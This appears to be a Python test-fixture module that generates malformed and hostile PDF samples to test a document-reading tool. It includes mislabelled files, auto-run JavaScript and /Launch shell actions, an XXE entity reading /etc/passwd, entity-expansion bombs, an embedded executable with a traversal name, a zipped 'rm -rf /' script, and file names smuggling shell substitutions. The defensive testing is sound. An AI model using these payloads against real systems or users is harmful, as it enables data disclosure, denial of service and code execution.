"""Kinds that are not what their name says, that want to do something, or have an odd name."""

import io
import struct
import zipfile
import zlib

from tests.hostile.kind import (
    BLANK,
    FIRST_WORDS,
    NOT_PDF,
    OK,
    READ,
    Kind,
    declare,
    hostile,
)
from tests.hostile.writer import CATALOG, NEXT, PAGE, WORDS, flate, plain, stream

DISGUISE, ACTION, NAME = "disguise", "action", "file name"


def picture(side: int = 40) -> bytes:
    """Make a PNG picture of grey points."""

    def part(kind: bytes, data: bytes) -> bytes:
        check = zlib.crc32(kind + data).to_bytes(4, "big")
        return len(data).to_bytes(4, "big") + kind + data + check

    rows = zlib.compress((b"\x00" + b"\x80" * side) * side)
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", rows) + part(b"IEND", b"")


def packed(**files: bytes) -> bytes:
    """Make a ZIP file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in files.items():
            package.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


@hostile(DISGUISE, NOT_PDF)
def a_picture() -> bytes:
    """A PNG picture under the name of a PDF."""
    return picture()


@hostile(DISGUISE, NOT_PDF)
def a_web_page() -> bytes:
    """An HTML page under the name of a PDF, as error pages are saved."""
    return b"<!doctype html><title>404</title><p>%PDF est introuvable</p>\n"


@hostile(DISGUISE, NOT_PDF)
def a_word_document() -> bytes:
    """A text processor's file under the name of a PDF."""
    return packed(**{"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"})


@hostile(DISGUISE, NOT_PDF)
def only_zeros() -> bytes:
    """A download that kept its size and lost its bytes."""
    return bytes(50_000)


@hostile(DISGUISE, READ, says=FIRST_WORDS)
def pdf_and_zip() -> bytes:
    """A file that is a PDF from the front and a ZIP from the back."""
    return plain(f"80. {WORDS}").written() + packed(**{"malice.sh": b"rm -rf /"})


@hostile(DISGUISE, READ, says=FIRST_WORDS)
def script_and_pdf() -> bytes:
    """A shell script in front of a PDF."""
    return b"#!/bin/sh\nexit 0\n" + plain(f"81. {WORDS}").written()


@hostile(DISGUISE, BLANK)
def scan_without_text() -> bytes:
    """A page that is one picture."""
    pdf = plain(content=b"q 500 0 0 700 40 40 cm /Im Do Q", resources=b"/XObject << /Im 6 0 R >>")
    pdf[NEXT] = flate(
        bytes((x * y) % 251 for x in range(200) for y in range(200)),
        b"/Type /XObject /Subtype /Image /Width 200 /Height 200 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8",
    )
    return pdf.written()


@hostile(DISGUISE, READ | BLANK)
def picture_that_is_noise() -> bytes:
    """A page of pictures in compressions that their bytes are not."""
    entries = b"/Type /XObject /Subtype /Image /Width 90 /Height 90 /ColorSpace /DeviceGray "
    names = (b"DCTDecode", b"JPXDecode", b"JBIG2Decode", b"CCITTFaxDecode", b"LZWDecode")
    content = b"".join(b"/I%d Do " % number for number, _ in enumerate(names))
    forms = b"".join(b"/I%d %d 0 R " % (number, NEXT + number) for number, _ in enumerate(names))
    pdf = plain(content=content, resources=b"/XObject << " + forms + b">>")
    for number, name in enumerate(names):
        pdf[NEXT + number] = stream(bytes(range(256)) * 9, entries + b"/Filter /" + name)
    return pdf.written()


def _acting(
    name: str, about: str, catalog: bytes = b"", page: bytes = b"", objects: tuple[bytes, ...] = ()
) -> None:
    def build() -> bytes:
        box = b"/MediaBox [0 0 595 842] "
        pdf = plain(f"{name} : {WORDS}", catalog=catalog, page=box + page)
        pdf.update({NEXT + place: body for place, body in enumerate(objects)})
        return pdf.written()

    declare(Kind(name=name, about=about, family=ACTION, ends=OK, says=FIRST_WORDS, build=build))


_acting(
    "script-at-opening",
    "JavaScript that runs when the file opens.",
    b"/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\); while\\(true\\);) >>",
)
_acting(
    "program-at-opening",
    "A program that runs when the file opens.",
    b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
)
_acting(
    "address-at-opening",
    "An address that is called when the file opens.",
    b"/OpenAction << /S /URI /URI (http://127.0.0.1:9/appel) >>",
)
_acting(
    "form-that-sends",
    "A form that sends what is in it.",
    b"/AcroForm << /Fields [6 0 R] >> /AA << /WC << /S /SubmitForm /F (http://x.invalid) >> >>",
    objects=(b"<< /FT /Tx /T (a) /V (b) /Kids [6 0 R] /Parent 6 0 R >>",),
)
_acting(
    "form-in-xml",
    "An XFA form that names a file of the machine.",
    b"/AcroForm << /XFA 6 0 R >>",
    objects=(stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>'),),
)
_acting(
    "metadata-that-multiply",
    "XML metadata whose entities unfold.",
    b"/Metadata 6 0 R",
    objects=(
        stream(
            b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>',
            b"/Type /Metadata /Subtype /XML",
        ),
    ),
)
_acting(
    "file-inside",
    "A program attached to the file.",
    b"/Names << /EmbeddedFiles << /Names [(../../x.exe) 6 0 R] >> >>",
    objects=(
        b"<< /Type /Filespec /F (../../x.exe) /EF << /F 7 0 R >> >>",
        stream(b"MZ" + bytes(2000), b"/Type /EmbeddedFile"),
    ),
)
_acting(
    "content-elsewhere",
    "A page with a stream that is a file of the machine.",
    b"",
    b"/Thumb 6 0 R",
    objects=(stream(b"", b"/F (/etc/passwd) /FFilter /FlateDecode"),),
)
_acting(
    "links-everywhere",
    "A link that covers the page, and one that is its own reply.",
    b"",
    b"/Annots [6 0 R 6 0 R 99 0 R]",
    objects=(
        (
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9999 9999] /IRT 6 0 R /Popup 6 0 R "
            b"/A << /S /URI /URI (javascript:alert\\(1\\)) /Next 6 0 R >> >>"
        ),
    ),
)
_acting(
    "layers-hidden",
    "A layer that is switched off, and one that does not exist.",
    b"/OCProperties << /OCGs [6 0 R 98 0 R] /D << /OFF [6 0 R] /Order [6 0 R] >> >>",
    objects=(b"<< /Type /OCG /Name (x) >>",),
)


def _named(name: str, about: str, file_name: str | bytes) -> None:
    def build() -> bytes:
        return plain(f"{name} : {WORDS}").written()

    declare(
        Kind(
            name=name,
            about=about,
            family=NAME,
            ends=OK,
            says=FIRST_WORDS,
            file_name=file_name,
            build=build,
        )
    )


_named("name-with-a-line-break", "A line break in the name.", "a\nb\r.pdf")
_named("name-with-quotes", "Quotes, a backslash and a dollar.", 'l\'été "$HOME" \\n `id`.pdf')
_named("name-with-a-dash", "A name like an option.", "--help.pdf")
_named("name-like-a-path", "A name that begins like the folder above.", "..%2f..\u2215x.pdf")
_named("name-with-spaces", "Spaces around and inside.", "  mon   fichier  .pdf")
_named("name-decomposed", "Accents apart from their letters.", "me\u0301diateur.pdf")
_named("name-of-pictures", "Signs of other planes.", "\U0001f4c4 \u202efdp.exe.pdf")
_named("name-as-long-as-may-be", "A name of 255 bytes.", "n" * 251 + ".pdf")
_named("name-in-capitals", "An ending in capitals.", "RAPPORT.PDF")
_named("name-of-no-encoding", "Bytes that are no text.", b"caf\xe9\xff.pdf")
_named("name-like-a-query", "A name with signs of addresses.", "a?b=c&d#e%20f;<g>.pdf")


declare(Kind(
    name="name-with-a-line-break-and-no-pdf-in-it", about="An odd name, and another kind of file.",
    family=NAME, ends=NOT_PDF, file_name="vide\nvide\x1b[31m.pdf",
    build=lambda: b"rien",
))  # fmt: skip


@hostile(ACTION, READ, says=FIRST_WORDS)
def page_that_turns_by_itself() -> bytes:
    """A page with a duration, a transition and an action of its own."""
    pdf = plain(f"82. {WORDS}", catalog=b"/PageMode /FullScreen /ViewerPreferences 42")
    pdf[PAGE] = pdf[PAGE].replace(
        b"/Type", b"/Dur 0 /Trans 7 /AA << /O << /S /Named /N /Print >> >> /Type", 1
    )
    pdf[CATALOG] = pdf[CATALOG].replace(b"/Type", b"/Lang (\\000\\001) /Type", 1)
    return pdf.written()
